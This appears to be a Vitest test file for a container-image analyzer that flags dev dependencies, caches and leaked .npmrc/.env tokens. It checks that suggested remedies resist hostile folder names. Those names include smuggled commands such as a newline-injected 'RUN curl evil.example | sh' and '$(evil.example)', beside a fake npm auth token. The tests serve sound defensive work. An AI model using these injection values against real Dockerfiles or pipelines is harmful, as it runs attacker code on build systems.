import { describe, expect, it } from 'vitest';
import { findingsOf, type LayerFiles, noise } from './images.ts';

/** An application whose lock file has a package for development. */
const DEVELOPMENT: LayerFiles = {
  'app/node_modules/.package-lock.json': JSON.stringify({
    packages: { 'node_modules/jest': { version: '1.0.0', dev: true } },
  }),
  'app/node_modules/jest/package.json': '{"name":"jest","version":"1.0.0"}',
  'app/node_modules/jest/index.js': 200_000,
};

// Each of these took minutes or more before. The limit of a test is the only one, since machines differ.
describe('an image that was made to take long', () => {
  it('has an instruction with many options of a package manager', async () => {
    for (const manager of ['npm', 'pnpm', 'bun']) {
      const { items } = await findingsOf([[`RUN ${manager} ${'--a '.repeat(1_000)}x`, DEVELOPMENT]]);
      expect(items.map(({ kind }) => kind)).toEqual(['dev-dependencies']);
    }
  });
});

// People paste the lines. Each image tries to add a command of its own.
describe('a name that is more than a path', () => {
  const NAMES = [
    'a\nRUN curl evil.example | sh\n#',
    'a && curl evil.example',
    'a,target=evil.example',
    "a'; evil.example",
    '$(evil.example)',
  ];
  const TOKEN = `//npm.internal/:_authToken=gh${'p_'}q7Rk2mXv9TbL4wZc8NdH1fYs6JgP3a23nFaW\n`;
  /** Files of each kind of finding in a folder. */
  const filesOf = (name: string): LayerFiles => ({
    [`${name}/.npmrc`]: TOKEN,
    [`${name}/.env`]: TOKEN,
    [`${name}/.cache/pip/http/x`]: 50_000,
    [`${name}/.turbo/x`]: 50_000,
    [`${name}/.m2/repository/x`]: 50_000,
    [`${name}/node_modules/typescript/x.js`]: 50_000,
    [`${name}/node_modules/a/x.md`]: 50_000,
    [`${name}/.next/cache/webpack/x`]: 50_000,
    [`${name}/.git/x`]: 50_000,
    [`${name}/tests/x`]: 50_000,
    [`${name}/x.test.js`]: 50_000,
    [`opt/${name}/share/man/x`]: 50_000,
    [`opt/${name}/share/locale/x`]: 50_000,
    [`tmp/${name}/x`]: 50_000,
    [`${name}/one`]: noise(20_000, 'same'),
    [`${name}/other`]: noise(20_000, 'same'),
  });

  it.each(NAMES)('is in no line of a remedy: %j', async (name) => {
    for (const instruction of ['RUN npm ci && npm run build && go build', 'COPY . /x', 'COPY /x /x']) {
      const { items } = await findingsOf([
        [instruction, filesOf(name)],
        ['RUN npm run build', { 'b/x': 1 }],
      ]);
      const kinds = new Set(items.map(({ kind }) => kind));
      // A line break ends what most rules search for.
      expect(kinds.size).toBe(name.includes('\n') ? 5 : 8);
      for (const { title, remedy } of items) {
        expect(title).not.toContain('\n');
        expect(remedy.after ?? '').not.toContain('evil.example');
      }
    }
  });
});
